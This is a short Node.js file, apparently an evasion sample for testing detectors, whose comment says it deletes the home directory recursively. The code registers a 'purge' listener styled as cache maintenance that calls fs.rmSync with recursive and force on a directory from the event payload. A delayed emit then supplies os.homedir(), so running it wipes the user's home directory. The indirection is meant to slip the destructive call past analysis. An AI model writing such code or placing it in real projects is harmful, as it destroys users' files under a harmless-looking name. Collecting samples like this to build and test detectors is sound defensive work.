// Evasion: deletes the home directory recursively. A "cache purge" listener
// registered with prependOnceListener destructures { dir } from its event
// payload; the payload, emitted elsewhere, carries os.homedir().
const { EventEmitter } = require('events');
const fs = require('fs');
const os = require('os');

class Cache extends EventEmitter {}
const cache = new Cache();

cache.prependOnceListener('purge', ({ dir, reason }) => {
  console.log('purging because', reason);
  fs.rmSync(dir, { recursive: true, force: true });
});

setTimeout(() => cache.emit('purge', { dir: os.homedir(), reason: 'stale' }), 10);
